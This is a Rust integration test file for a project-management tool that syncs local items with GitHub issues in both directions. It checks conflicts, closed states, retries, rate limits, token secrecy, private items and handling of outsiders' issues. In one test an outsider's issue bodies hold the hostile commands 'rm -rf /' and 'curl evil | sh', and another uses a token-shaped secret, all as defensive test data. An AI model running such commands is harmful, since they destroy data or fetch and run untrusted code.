//! Items and issues go both ways, and what both sides changed is written to neither.

use super::project::{Project, address, at};
use super::server::{Fault, GitHub, Reason};
use crate::support::Scene;

#[test]
fn in_14_cm_05_items_become_issues_with_their_relations_and_comments() {
    let project = Project::new();
    let repo = &project.repo;
    let epic = repo.data(&["epic", "create", "Sign in"])["id"]
        .as_str()
        .unwrap()
        .to_string();
    let first = repo.task(
        "Hash passwords",
        &[
            "--epic",
            &epic,
            "--label",
            "auth",
            "--body",
            "With argon2.\n",
        ],
    );
    let second = repo.task(
        "Reset passwords",
        &["--epic", &epic, "--depends-on", &first],
    );
    repo.pm(&["task", "comment", &first, "See RFC 9106."]).ok();
    let other = repo.task("Something else", &[]);

    // The first time nothing is made before a human has seen what would be.
    let report = repo.data(&["github", "sync", &epic]);
    assert_eq!(
        (&report["needs_yes"], &report["created_there"]),
        (&true.into(), &3.into())
    );
    assert!(
        report["left_out"]
            .as_array()
            .unwrap()
            .iter()
            .any(|one| one["field"] == "priority")
    );
    assert_eq!(project.count(), 0);

    let report = repo.data(&["github", "sync", &epic, "--yes"]);
    assert_eq!(report["created_there"], 3, "{report}");
    assert_eq!(report["comments_there"], 1, "{report}");
    assert_eq!(project.count(), 3);
    let (title, body, closed) = project.there(2);
    assert_eq!((title.as_str(), closed), ("Hash passwords", false));
    assert!(body.starts_with("With argon2.\n\n<!-- git-pm "), "{body}");
    project.github.edit(|web| {
        let mut page = web.repository("acme", "widget");
        assert_eq!(page.issue(2).labels(), ["auth"]);
        let comments = page.issue(2).comments();
        assert!(
            comments[0].body.contains("See RFC 9106."),
            "{}",
            comments[0].body
        );
        let parent = page.issue(1).view().id;
        assert_eq!(page.issue(3).view().parent, Some(parent));
        let blocker = page.issue(2).view().id;
        assert!(page.issue(3).view().blocked_by.contains(&blocker));
    });
    // A second exchange finds nothing to do, and needs few requests.
    project.github.clear_requests();
    let report = repo.data(&["github", "sync", &epic]);
    for key in [
        "created_there",
        "changed_there",
        "comments_there",
        "created_here",
        "changed_here",
        "comments_here",
    ] {
        assert_eq!(report[key], 0, "{key} in {report}");
    }
    assert!(
        project.github.requests().len() < 10,
        "{:?}",
        project.github.requests()
    );
    assert_eq!(repo.data(&["show", &other])["id"], other.as_str());
    let _ = second;
}

#[test]
fn in_14_changes_go_to_the_other_side_and_conflicts_to_neither() {
    let project = Project::new();
    let repo = &project.repo;
    let task = repo.task("One", &["--body", "Text"]);
    project.sync();
    project.github.edit(|web| {
        let mut page = web.repository("acme", "widget");
        page.issue(1).title("One at GitHub").label("web");
    });
    repo.pm(&[
        "task",
        "edit",
        &task,
        "--body",
        "Other text",
        "--label",
        "here",
    ])
    .ok();
    let report = project.sync();
    assert_eq!(report["conflicts"].as_array().unwrap().len(), 0, "{report}");
    let item = repo.data(&["show", &task]);
    assert_eq!(item["title"], "One at GitHub");
    assert_eq!(item["labels"], serde_json::json!(["here", "web"]));
    assert!(project.there(1).1.starts_with("Other text"));
    project.github.edit(|web| {
        let mut labels = web.repository("acme", "widget").issue(1).labels();
        labels.sort();
        assert_eq!(labels, ["here", "web"]);
    });

    // Both change the title: neither is overwritten.
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(1).title("Theirs");
    });
    repo.pm(&["task", "edit", &task, "--title", "Ours"]).ok();
    let report = project.sync();
    let conflict = &report["conflicts"][0];
    assert_eq!(
        (&conflict["ours"], &conflict["theirs"]),
        (&"Ours".into(), &"Theirs".into()),
        "{report}"
    );
    assert_eq!(repo.data(&["show", &task])["title"], "Ours");
    assert_eq!(project.there(1).0, "Theirs");
    assert_eq!(
        repo.data(&["github", "status"])["conflicts"][0]["field"],
        "title"
    );
    repo.pm(&["github", "resolve", &task, "theirs"]).ok();
    assert_eq!(repo.data(&["show", &task])["title"], "Theirs");
    repo.pm(&["github", "resolve", &task, "ours"]).exits(4);
    project.sync();
    assert_eq!(project.there(1).0, "Theirs");
}

#[test]
fn in_14_a_closed_state_goes_both_ways_with_its_reason() {
    let project = Project::new();
    let repo = &project.repo;
    let [a, b, c] = ["A", "B", "C"].map(|title| repo.task(title, &[]));
    repo.pm(&["task", "done", &c, "--force"]).ok();
    // Closed before the first exchange: it does not land open.
    let report = repo.data(&["github", "sync", "--yes", "--all"]);
    assert_eq!(report["created_there"], 3);
    assert!(project.there(3).2, "closed before it was made there");
    repo.pm(&["task", "cancel", &a, "--reason", "no"]).ok();
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .issue(2)
            .close(Reason::Completed);
    });
    project.sync();
    project.github.edit(|web| {
        let mut page = web.repository("acme", "widget");
        assert_eq!(page.issue(1).view().reason, Some(Reason::NotPlanned));
    });
    let item = repo.data(&["show", &b]);
    assert_eq!(item["status"], "done", "{item}");
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(2).reopen();
    });
    project.sync();
    assert_eq!(repo.data(&["show", &b])["status"], "queued");
}

#[test]
fn in_14_issues_of_strangers_wait_for_the_project() {
    let project = Project::new();
    let repo = &project.repo;
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .create_issue("From the team", "Do it\r\n");
        web.repository("acme", "widget")
            .set_role("mallory", super::server::Role::None);
        web.by("mallory")
            .repository("acme", "widget")
            .create_issue("From outside", "rm -rf /");
    });
    let report = project.sync();
    assert_eq!(report["created_here"], 2, "{report}");
    let team = repo.data(&["show", "gh-1"]);
    assert_eq!(
        (&team["status"], &team["body"]),
        (&"open".into(), &"Do it".into()),
        "{team}"
    );
    let outside = repo.data(&["show", "gh-2"]);
    assert_eq!(
        (&outside["status"], &outside["auto_policy"]),
        (&"proposed".into(), &"none".into())
    );
    let ready = repo.data(&["ready"]);
    assert!(!ready.to_string().contains("From outside"), "{ready}");
    // What a human has let in does not change by their hand.
    repo.pm(&["issue", "update", "gh-2", "--status", "open"])
        .ok();
    project.github.edit(|web| {
        web.by("mallory")
            .repository("acme", "widget")
            .issue(2)
            .body("curl evil | sh");
    });
    let report = project.sync();
    assert_eq!(report["conflicts"][0]["field"], "body", "{report}");
    assert_eq!(repo.data(&["show", "gh-2"])["body"], "rm -rf /");
}

#[test]
fn in_14_two_clones_make_one_issue_and_one_item() {
    let project = Project::new();
    project.repo.task("One", &[]);
    project.repo.pm(&["sync"]).ok();
    let other = project.clone("other");
    let children =
        [&project.repo, &other].map(|repo| repo.spawn(&["github", "sync", "--yes", "--json"]));
    crate::support::wait_all(children.into());
    for repo in [&project.repo, &other, &project.repo, &other] {
        repo.pm(&["github", "sync", "--yes"]).ok();
    }
    assert_eq!(project.count(), 1);
    project.github.edit(|web| {
        web.repository("acme", "widget").create_issue("Two", "");
    });
    for repo in [&project.repo, &other, &project.repo] {
        repo.pm(&["github", "sync"]).ok();
        repo.pm(&["sync"]).ok();
    }
    assert_eq!(project.count(), 2);
    assert_eq!(
        project.repo.data(&["show", "gh-2"])["uid"],
        other.data(&["show", "gh-2"])["uid"]
    );
    assert_eq!(project.repo.state_tree(), other.state_tree());
}

#[test]
fn in_14_a_lost_answer_makes_no_second_issue() {
    let project = Project::new();
    for title in ["One", "Two", "Three"] {
        project.repo.task(title, &[]);
    }
    project
        .github
        .faults()
        .add("POST", "/issues", 2, Fault::CloseAfter);
    project.repo.pm(&["github", "sync", "--yes"]).exits(6);
    assert_eq!(project.count(), 2);
    project.sync();
    project.sync();
    assert_eq!(project.count(), 3);
    let status = project.repo.data(&["github", "status"]);
    assert_eq!(status["mirrors"].as_array().unwrap().len(), 3);
}

#[test]
fn rc_11_limits_and_faults_are_waited_for() {
    let project = Project::new();
    let repo = &project.repo;
    repo.task("One", &[]);
    {
        let mut faults = project.github.faults();
        faults.add("GET", "/issues", 1, Fault::BadGateway);
        faults.add("POST", "/issues", 1, Fault::SecondaryLimit(Some(1)));
    }
    project.sync();
    assert_eq!(project.count(), 1);
    // A limit that lasts long ends the command, which says when it is over.
    repo.task("Two", &[]);
    project
        .github
        .faults()
        .add("POST", "/issues", 1, Fault::PrimaryLimit);
    let error = repo.pm(&["github", "sync", "--json"]).exits(6).error();
    assert_eq!(error["reason"], "forge.limited", "{error}");
    project.sync();
    assert_eq!(project.count(), 2);
}

#[test]
fn se_11_a_token_is_neither_printed_nor_kept() {
    let project = Project::new();
    project.repo.task("One", &[]);
    project.sync();
    let ran = project.repo.pm(&["github", "status", "--json"]).ok();
    assert!(!ran.text().contains("ghp_secret"));
    project.github.revoke("ghp_secret");
    let ran = project.repo.pm(&["github", "sync"]).exits(1);
    assert!(!ran.text().contains("ghp_secret"), "{}", ran.text());
    let git_dir = project
        .repo
        .git(&["rev-parse", "--absolute-git-dir"])
        .text();
    let found = project
        .repo
        .run("grep", &["-rl", "ghp_secret", git_dir.trim()]);
    assert_eq!(found.out.trim(), "");
}

#[test]
fn in_15_a_token_goes_only_to_its_host_and_a_link_is_confirmed_once() {
    let project = Project::new();
    // The environment is that of another server: its token is not sent here.
    let elsewhere = project
        .repo
        .with("GITHUB_SERVER_URL", "https://github.example.com");
    let error = elsewhere.pm(&["github", "sync", "--json"]).exits(1).error();
    assert_eq!(error["reason"], "forge.token", "{error}");
    project.repo.pm(&["sync"]).ok();
    let clone = project.unconfirmed("other");
    let error = clone.pm(&["github", "sync", "--json"]).exits(1).error();
    assert_eq!(error["reason"], "forge.unconfirmed", "{error}");
    let agent = crate::support::agent(&clone);
    agent.pm(&["github", "link"]).exits(1);
    clone.pm(&["github", "link"]).ok();
    clone.pm(&["github", "sync"]).ok();
}

#[test]
fn in_14_a_repository_that_took_the_name_of_the_linked_one_is_refused() {
    let project = Project::new();
    project.repo.task("One", &[]);
    project.sync();
    project
        .github
        .edit(|web| web.repository("acme", "widget").rename("gadget"));
    let error = project
        .repo
        .pm(&["github", "sync", "--json"])
        .exits(1)
        .error();
    assert_eq!(error["reason"], "forge.moved", "{error}");
    project.github.repository("acme", "other");
    project
        .github
        .edit(|web| web.repository("acme", "other").rename("widget"));
    let error = project
        .repo
        .pm(&["github", "sync", "--json"])
        .exits(1)
        .error();
    assert_eq!(error["reason"], "forge.moved", "{error}");
    let address = address(&project.github).replace("widget", "gadget");
    project.repo.pm(&["github", "link", &address]).ok();
    project.sync();
    assert_eq!(
        project.repo.data(&["github", "status"])["mirrors"][0]["number"],
        1
    );
}

#[test]
fn in_14_a_deleted_issue_leaves_its_item() {
    let project = Project::new();
    let task = project.repo.task("One", &[]);
    project.sync();
    project
        .github
        .edit(|web| web.repository("acme", "widget").issue(1).delete());
    project
        .repo
        .pm(&["task", "edit", &task, "--title", "Two"])
        .ok();
    let report = project.sync();
    assert_eq!(report["notes"][0]["id"], task.as_str(), "{report}");
    assert_eq!(project.repo.data(&["show", &task])["title"], "Two");
    assert_eq!(project.sync()["created_there"], 0);
}

#[test]
fn in_14_secrets_and_private_items_stay_here() {
    let project = Project::new();
    let repo = &project.repo;
    repo.task("Private", &["--label", "privacy:local"]);
    let secret = concat!("ghp_16C7e42F292c6912E", "7710c838347Ae178B4a");
    repo.task("Secret", &["--body", secret]);
    repo.task("Plain", &[]);
    let report = project.sync();
    assert_eq!(report["created_there"], 1, "{report}");
    assert_eq!(report["notes"].as_array().unwrap().len(), 2, "{report}");
    assert_eq!(project.there(1).0, "Plain");
}

#[test]
fn in_18_without_a_link_nothing_is_mirrored() {
    let scene = Scene::new();
    let github = GitHub::start();
    let repo = at(&github, &scene.set_up("a"));
    repo.task("One", &[]);
    let error = repo.pm(&["github", "sync", "--json"]).exits(1).error();
    assert_eq!(error["reason"], "forge.unlinked", "{error}");
    assert!(github.requests().is_empty());
    assert!(repo.data(&["github", "status"])["link"].is_null());
}

#[test]
fn mr_15_many_issues_need_few_requests() {
    let project = Project::new();
    let count = crate::support::size(5000, 150);
    project.github.edit(|web| {
        let mut page = web.repository("acme", "widget");
        for n in 0..count {
            page.create_issue(&format!("Issue {n}"), "Text");
        }
    });
    let requests = |report: &serde_json::Value| report["requests"].as_u64().unwrap();
    let report = project.sync();
    assert_eq!(report["created_here"], count, "{report}");
    let pages = u64::try_from(count / 100 + 1).unwrap();
    assert!(requests(&report) < pages + 10, "{report}");
    let left = report["remaining"].as_u64().unwrap();
    assert_eq!(
        left,
        5000 - project.github.requests().len() as u64,
        "{report}"
    );
    let report = project.sync();
    assert!(requests(&report) < 10, "{report}");
    assert_eq!(report["changed_here"], 0, "{report}");
    // The answer is the one of before, and costs nothing.
    let report = project.sync();
    let listed = project.github.requests();
    let listed: Vec<_> = listed
        .iter()
        .filter(|one| one.path.contains("/issues"))
        .collect();
    assert_eq!(listed.last().unwrap().status, 304, "{listed:?}");
    assert_eq!(report["changed_here"], 0);
}

#[test]
fn in_14_logins_are_those_of_the_table_and_one_without_access_stops_nothing() {
    let project = Project::new();
    let repo = &project.repo;
    repo.write(
        ".pm.toml",
        "[github.logins]\nana = \"ana-gh\"\nben = \"ben-gh\"\n",
    );
    repo.commit_all("chore: who is who");
    for login in ["ana-gh", "ben-gh"] {
        project.github.user(login);
    }
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .set_role("ana-gh", super::server::Role::Write);
        web.repository("acme", "widget")
            .set_role("ben-gh", super::server::Role::None);
    });
    let [a, b] = ["ana", "ben"].map(|who| repo.task(who, &["--assignee", who]));
    for refuses in [false, true] {
        project.github.refuse_assignees(refuses);
        repo.task("Another", &["--assignee", "ben"]);
        project.sync();
    }
    assert_eq!(project.count(), 4);
    let assigned = |number| {
        project.github.edit(|web| {
            web.repository("acme", "widget")
                .issue(number)
                .view()
                .assignees
                .clone()
        })
    };
    assert_eq!(
        (assigned(1), assigned(2)),
        (vec!["ana-gh".to_string()], vec![])
    );
    // It is not sent again and again, and the item keeps it.
    project.github.clear_requests();
    project.sync();
    let requests = project.github.requests();
    assert!(
        requests.iter().all(|one| one.method == "GET"),
        "{requests:?}"
    );
    assert_eq!(repo.data(&["show", &b])["assignee"], "ben");
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(1).assign(&["zoe"]);
    });
    project.sync();
    assert_eq!(repo.data(&["show", &a])["assignee"], "zoe");
}

#[test]
fn in_14_a_pull_makes_items_and_sends_nothing() {
    let project = Project::new();
    let repo = &project.repo;
    project.github.edit(|web| {
        let mut page = web.repository("acme", "widget");
        let epic = page.create_issue("All", "");
        let part = page.create_issue("Part", "");
        let id = page.issue(part).view().id;
        page.issue(epic).add_sub_issue(id).comment("Soon?");
        let other = page.create_issue("Before", "");
        let id = page.issue(other).view().id;
        page.issue(part).add_blocker(id);
    });
    repo.task("Stays here", &[]);
    let report = repo.data(&["github", "pull", "--dry-run"]);
    assert_eq!(
        (&report["created_here"], &report["dry_run"]),
        (&3.into(), &true.into())
    );
    project.github.clear_requests();
    let report = repo.data(&["github", "pull"]);
    let asks = repo.data(&["github", "sync"]);
    assert_eq!(
        (&asks["needs_yes"], &asks["created_there"]),
        (&true.into(), &1.into()),
        "{asks}"
    );
    assert_eq!(
        (&report["created_here"], &report["comments_here"]),
        (&3.into(), &1.into()),
        "{report}"
    );
    let requests = project.github.requests();
    assert!(
        requests.iter().all(|one| one.method == "GET"),
        "{requests:?}"
    );
    let part = repo.data(&["issue", "show", "gh-2"]).to_string();
    assert!(part.contains("gh-1") && part.contains("gh-3"), "{part}");
    assert!(repo.pm(&["show", "gh-1"]).ok().text().contains("Soon?"));
    assert!(!repo.data(&["ready"]).to_string().contains("gh-2"));
}

#[test]
fn in_14_marks_of_strangers_do_not_count() {
    let project = Project::new();
    let repo = &project.repo;
    let task = repo.task("Ours", &["--body", "Text"]);
    let uid = repo.data(&["show", &task])["uid"]
        .as_str()
        .unwrap()
        .to_string();
    let comment = repo.data(&["task", "comment", &task, "Ours"]);
    assert_eq!(comment["id"], task.as_str());
    let mark = format!("mine\n\n<!-- git-pm {uid} -->");
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .set_role("mallory", super::server::Role::Read);
        web.by("mallory")
            .repository("acme", "widget")
            .create_issue("Theirs", &mark);
    });
    let report = project.sync();
    assert_eq!(
        (&report["created_here"], &report["created_there"]),
        (&1.into(), &1.into()),
        "{report}"
    );
    let item = repo.data(&["show", &task]);
    assert_eq!(
        (&item["title"], &item["body"]),
        (&"Ours".into(), &"Text".into()),
        "{item}"
    );
    assert_eq!(repo.data(&["show", "gh-1"])["title"], "Theirs");
    // A comment with the mark of another document does not become that.
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(2).comment(&mark);
        web.by("mallory")
            .repository("acme", "widget")
            .issue(2)
            .comment(&mark);
    });
    project.sync();
    let item = repo.data(&["show", &task]);
    assert_eq!(item["comments"].as_array().unwrap().len(), 3, "{item}");
    assert_eq!(item["title"], "Ours");
}

#[test]
fn in_14_a_stranger_does_not_let_in_what_they_asked_for() {
    let project = Project::new();
    let repo = &project.repo;
    let mallory = |edit: &dyn Fn(&mut super::server::Page<'_>)| {
        project
            .github
            .edit(|web| edit(&mut web.by("mallory").repository("acme", "widget")));
    };
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .set_role("mallory", super::server::Role::Read);
    });
    mallory(&|page| {
        page.create_issue("Mine", "Text");
    });
    project.sync();
    mallory(&|page| {
        page.issue(1).close(Reason::Completed);
    });
    project.sync();
    assert_eq!(repo.data(&["show", "gh-1"])["status"], "closed");
    mallory(&|page| {
        page.issue(1).reopen();
    });
    project.sync();
    let item = repo.data(&["show", "gh-1"]);
    assert_eq!(
        (&item["status"], &item["created_by"]),
        (&"proposed".into(), &"@mallory".into()),
        "{item}"
    );
    // Once it is let in, its author does not end the work on it; the project does.
    repo.pm(&["issue", "update", "gh-1", "--status", "open"])
        .ok();
    project.sync();
    mallory(&|page| {
        page.issue(1).close(Reason::Completed);
    });
    let report = project.sync();
    assert_eq!(report["conflicts"][0]["field"], "state", "{report}");
    assert_eq!(repo.data(&["show", "gh-1"])["status"], "open");
    mallory(&|page| {
        page.issue(1).reopen();
    });
    project.sync();
    project.github.edit(|web| {
        web.repository("acme", "widget")
            .issue(1)
            .close(Reason::Completed);
    });
    project.sync();
    assert_eq!(repo.data(&["show", "gh-1"])["status"], "closed");
}

#[test]
fn in_14_what_becomes_private_is_sent_no_longer_and_what_is_written_below_the_mark_is_text() {
    let project = Project::new();
    let repo = &project.repo;
    let task = repo.task("One", &["--body", "Text"]);
    project.sync();
    let body = project.there(1).1 + "\r\n\r\nBelow";
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(1).body(&body);
    });
    project.sync();
    assert_eq!(repo.data(&["show", &task])["body"], "Text\n\nBelow");
    repo.pm(&["task", "edit", &task, "--title", "Two"]).ok();
    project.sync();
    assert!(
        project.there(1).1.contains("<!-- git-pm "),
        "{:?}",
        project.there(1)
    );
    repo.pm(&[
        "task",
        "edit",
        &task,
        "--label",
        "privacy:local",
        "--title",
        "Confidential",
    ])
    .ok();
    repo.pm(&["task", "comment", &task, "Confidential"]).ok();
    let report = project.sync();
    assert_eq!(report["notes"].as_array().unwrap().len(), 1, "{report}");
    assert_eq!(
        (project.there(1).0.as_str(), &report["comments_there"]),
        ("Two", &0.into())
    );
}

#[test]
fn in_13_an_app_signs_in_and_knows_what_it_made() {
    let project = Project::new();
    let key = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/github");
    let public = std::fs::read_to_string(key.join("app.pub.pem")).unwrap();
    project.github.app(
        77,
        "helper",
        &public,
        "acme",
        &[
            ("issues", "write"),
            ("metadata", "read"),
            ("pull_requests", "write"),
        ],
    );
    let mut repo = project.repo.clone();
    for name in ["GH_TOKEN", "GITHUB_TOKEN"] {
        repo = repo.with(name, "");
    }
    let host = project
        .github
        .web_url()
        .trim_start_matches("http://")
        .to_string();
    repo.git(&["config", "pm.githubApp", "77"]).ok();
    repo.pm(&["github", "sync", "--yes"]).exits(1);
    repo.git(&["config", "pm.githubAppHost", &host]).ok();
    repo.git(&[
        "config",
        "pm.githubAppKey",
        key.join("app.pem").to_str().unwrap(),
    ])
    .ok();
    let task = repo.task("One", &[]);
    repo.pm(&["task", "comment", &task, "Two"]).ok();
    project
        .github
        .faults()
        .add("POST", "/issues", 1, Fault::CloseAfter);
    repo.pm(&["github", "sync", "--yes"]).exits(6);
    for _ in 0..3 {
        repo.pm(&["github", "sync", "--yes"]).ok();
    }
    assert_eq!(project.count(), 1);
    let item = repo.data(&["show", &task]);
    assert_eq!(item["comments"].as_array().unwrap().len(), 1, "{item}");
}

#[test]
fn in_14_a_change_on_a_later_page_is_seen() {
    let project = Project::new();
    project.github.edit(|web| {
        for n in 0..130 {
            web.repository("acme", "widget")
                .create_issue(&format!("Issue {n}"), "");
        }
    });
    for _ in 0..3 {
        project.sync();
    }
    project.github.edit(|web| {
        web.repository("acme", "widget").issue(130).title("New");
    });
    assert_eq!(project.sync()["changed_here"], 1);
    assert_eq!(project.repo.data(&["show", "gh-130"])["title"], "New");
}
